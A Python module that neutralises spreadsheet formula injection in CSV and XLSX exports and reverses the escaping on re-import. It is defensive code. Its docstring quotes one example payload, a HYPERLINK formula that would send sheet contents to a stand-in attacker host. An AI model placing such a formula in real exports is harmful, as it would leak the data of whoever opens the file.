"""Safe cells for every CSV/XLSX export (and their re-import).

A text cell that starts with `=`, `+`, `-`, `@` (or a tab/carriage return) is run as a formula by
Excel and LibreOffice when a CSV is opened ("CSV injection"): a system named
`=HYPERLINK("https://evil.example/?"&A1, "Open")` would exfiltrate the sheet of whoever opens the
export. CSV cells get a leading apostrophe, which spreadsheets show as plain text; XLSX cells are
written with the string type, so they keep their exact value and are never evaluated. Imports undo
the apostrophe, so an exported file re-imports unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """The value as written to a CSV cell: text that a spreadsheet would evaluate is neutralised."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable) -> list:
    return [csv_cell(value) for value in values]


def imported_cell(value: str) -> str:
    """Undo `csv_cell` on a cell read back from an exported file."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def xlsx_row(sheet, values: Iterable) -> list:
    """Cells for `sheet.append()` in a write-only workbook: text is always text, never a formula."""
    # Lazy on purpose: openpyxl is a heavy import that only spreadsheet work needs.
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"  # openpyxl would store "=…" as a formula
            cells.append(cell)
        else:
            cells.append(value)
    return cells
